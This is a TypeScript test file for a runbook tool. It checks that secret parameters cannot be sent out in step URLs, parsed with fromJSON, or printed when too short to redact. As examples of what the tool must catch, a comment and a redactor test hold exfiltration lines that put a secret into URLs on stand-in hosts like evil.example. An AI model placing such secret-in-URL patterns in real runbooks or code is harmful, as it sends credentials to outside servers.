/**
 * Issue 16 leftovers (stop 28's closing note): three ways a secret still got out.
 * - `fromJSON(params.pw)` failed for a secret that is not JSON and succeeded for one that is: one bit of its shape
 *   per run. Refused like a search of the secret (secret-in-expression, exit 2, file:line:col; at run time, before
 *   evaluating, with one message whatever the secret).
 * - A runbook could send a secret out itself: `http.check url: https://evil/${{ params.pw }}`. A secret may reach
 *   only inputs an action declares secret or local (`secret-sent-out`, exit 2 before the run; at run time the step
 *   fails before the action runs — test/integration/leak.test.ts shows nothing reaches the server).
 * - A secret shorter than 4 characters is not redacted (it would shred ordinary text), so it was printed as it is
 *   wherever it came from other than a secret param. Refused wherever opsbook meets one.
 * All through the CLI where a user meets them (`runbooks validate`, `run`: exit 2, nothing started).
 */
import {writeFileSync} from 'node:fs'
import {createServer, type Server} from 'node:http'
import type {AddressInfo} from 'node:net'
import {join} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {runCliInProcess} from '../helpers/cli.js'
import {emptyEmulatorProject} from '../helpers/project.js'
import {run, runbook} from './engine-fixtures.js'

const SECRET = 'Kx7Qp2VzLm9Wq4Rt'

let server: Server
let requests: string[] = []
let base = ''

beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(req.url ?? '')
    res.end('ok')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})

afterAll(() => {
  server?.close()
})

/** A project with `file` holding `text`; returns its folder. */
function project(file: string, text: string): string {
  const cwd = emptyEmulatorProject('secret-rules')
  writeFileSync(join(cwd, file), text)
  return cwd
}

const book = (steps: string, params = '  pw: {type: secret}\n  base: {type: string}\n') => `name: secret-rules
title: Where a secret may go
kind: checklist
params:
${params}steps:
${steps}`

describe('a secret sent out through a step input (secret-sent-out)', () => {
  it('refuses a secret param in an input that leaves the machine, before the run starts anything (exit 2, file:line:col)', async () => {
    const cwd = project(
      'exfil.yaml',
      book(`  - id: note
    uses: core.log
    with: {message: "before"}
  - id: out
    uses: http.check
    with:
      url: "\${{ params.base }}/x?q=\${{ params.pw }}"
      timeout: PT1S
  - id: body
    uses: http.check
    with: {url: "\${{ params.base }}/health", expectBody: ok}
    rollback:
      uses: http.check
      with: {url: "\${{ format('{0}/{1}', params.base, params.pw) }}"}
`),
    )
    for (const argv of [['runbooks', 'validate', './exfil.yaml'], ['run', './exfil.yaml', '--env', 'local', '--yes', '--param', `base=${base}`]]) {
      const result = await runCliInProcess(argv, {cwd, env: {OPSBOOK_PARAM_PW: SECRET}})
      expect(result.code, result.stderr).toBe(2)
      const output = result.stdout + result.stderr
      expect(output).toMatch(/exfil\.yaml:14:\d+: params\.pw is a secret, and input url of http\.check is sent out of this machine/)
      expect(output).toMatch(/exfil\.yaml:21:\d+: params\.pw is a secret, and input url of http\.check is sent out of this machine/)
      expect(output).not.toContain(SECRET.slice(0, 6))
    }
    // Nothing ran: no request, not even the step before.
    expect(requests).toEqual([])
  })

  it('lets a secret reach a local input (a message, shown redacted) and a plain value reach a URL', async () => {
    const cwd = project(
      'fine.yaml',
      book(`  - id: note
    uses: core.log
    with: {message: "using \${{ params.pw }}"}
  - id: gate
    uses: core.assert
    with: {that: "\${{ params.pw != '' }}", message: "no \${{ params.pw }}"}
`),
    )
    const result = await runCliInProcess(['runbooks', 'validate', './fine.yaml'], {cwd})
    expect(result.code, result.stderr).toBe(0)
  })
})

describe('what counts as sending a secret out', () => {
  it('a secret in any spelling inside the value, not a value merely derived from an object that holds one', async () => {
    // redis-restore's `storageAccount: ${{ env.components[params.cache].snapshots.storageAccount }}` reads the whole
    // components map (a computed index), which holds a Key Vault secret's name under `secret:`: its result is redacted
    // as derived, and must still reach Azure.
    const {Redactor} = await import('../../src/evidence/redact.js')
    const redactor = new Redactor()
    redactor.add(SECRET)
    redactor.add('stshopsnapshots', {derived: true})
    expect(redactor.holdsRegisteredSecret({storageAccount: 'stshopsnapshots'})).toBe(false)
    expect(redactor.redactText('account stshopsnapshots')).toBe('account [REDACTED]')
    for (const sent of [`https://evil.example/${SECRET}`, `https://evil.example/?q=${encodeURIComponent(`"${SECRET}"`)}`, JSON.stringify({a: [SECRET]}), Buffer.from(SECRET).toString('base64')])
      expect(redactor.holdsRegisteredSecret({url: sent}), sent).toBe(true)
  })
})

describe('fromJSON of a secret', () => {
  it('is refused at validation (exit 2, file:line:col) whatever the secret would be', async () => {
    const cwd = project(
      'parse.yaml',
      book(`  - id: parse
    uses: core.log
    with: {message: "\${{ fromJSON(params.pw) }}"}
  - id: piece
    uses: core.log
    with: {message: "got \${{ fromJSON(params.pw).a }}"}
`),
    )
    const result = await runCliInProcess(['runbooks', 'validate', './parse.yaml'], {cwd})
    expect(result.code).toBe(2)
    expect(result.stderr).toMatch(/parse\.yaml:10:\d+: params\.pw is a secret: .*nor parse it with fromJSON/)
    expect(result.stderr).toMatch(/parse\.yaml:13:\d+: params\.pw is a secret: .*nor parse it with fromJSON/)
  })
})

describe('secrets too short to redact', () => {
  it('refuses a param named like a secret with fewer than 4 characters (exit 2), where it was printed as it is', async () => {
    // `message: ${{ params.adminPassword }}` printed `ab` in the journal and the output: its name makes it a secret,
    // but a value that short was never registered with the redactor.
    const cwd = project(
      'short.yaml',
      book(
        `  - id: note
    uses: core.log
    with: {message: "password \${{ params.adminPassword }}"}
`,
        '  adminPassword: {type: string}\n',
      ),
    )
    const result = await runCliInProcess(['run', './short.yaml', '--env', 'local', '--yes', '--param', 'adminPassword=q7'], {cwd})
    expect(result.code).toBe(2)
    expect(result.stderr).toContain('param "adminPassword" is named like a secret, so opsbook redacts it as one, and it must be at least 4 characters')
    expect(result.stdout + result.stderr).not.toMatch(/password q7/)
    // A secret param too (unchanged): refused, never echoed.
    const secret = project('secret.yaml', book(`  - {id: note, uses: core.log, with: {message: "\${{ params.pw != '' }}"}}\n`, '  pw: {type: secret}\n'))
    const refused = await runCliInProcess(['run', './secret.yaml', '--env', 'local', '--yes'], {cwd: secret, env: {OPSBOOK_PARAM_PW: 'q7z'}})
    expect(refused.code).toBe(2)
    expect(refused.stderr).toContain('param "pw" is a secret and must be at least 4 characters')
  })

  it('fails a step whose secret input, or a secret its action reads, is too short to redact, before it is shown', async () => {
    const {outcome, events} = await run(
      runbook(`
name: short-secret
title: A secret input of 3 characters
kind: checklist
steps:
  - {id: connect, uses: test.secret, continueOnError: true, with: {value: "q7z"}}
  - {id: long, uses: test.secret, with: {value: "q7z-long-enough"}}
`),
    )
    expect(outcome.steps.map((s) => s.status)).toEqual(['failed', 'succeeded'])
    expect(outcome.steps[0]!.error!.message).toBe('input value of test.secret is a secret and must be at least 4 characters, so it can be kept out of output, journal and evidence')
    // test.secret logs `connected with <value>`: the short one never got that far.
    expect(JSON.stringify(events)).not.toContain('q7z"')
    expect(JSON.stringify(events)).not.toContain('connected with q7z')
    expect(JSON.stringify(events)).not.toContain('q7z-long-enough')
  })

  it('refuses an expression that reads a short value under a secret key (a catalog tag token: ab) instead of printing it', async () => {
    const {evaluateValue} = await import('../../src/runbooks/expressions.js')
    const {Redactor} = await import('../../src/evidence/redact.js')
    const redactor = new Redactor()
    const context = (token: string) => ({
      params: {},
      steps: {},
      env: {name: 'local', production: false, components: {db: {tags: {owner: 'ab', token}}}},
      catalog: {},
      run: {id: 'r', startedAt: '2026-12-04T00:00:00.000Z', runbook: 'x', environment: 'local', production: false},
      taint: redactor,
    })
    expect(() => evaluateValue({message: 'token ${{ env.components.db.tags.token }}'}, context('q7'))).toThrow(/reads a secret shorter than 4 characters/)
    // A short value that is no secret is fine; a long secret is carried and redacted.
    expect(evaluateValue({message: 'owner ${{ env.components.db.tags.owner }}'}, context('q7'))).toEqual({message: 'owner ab'})
    const long = evaluateValue({message: 'token ${{ env.components.db.tags.token }}'}, context('q7zLongToken')) as {message: string}
    expect(redactor.redactText(long.message)).toBe('token [REDACTED]')
  })
})
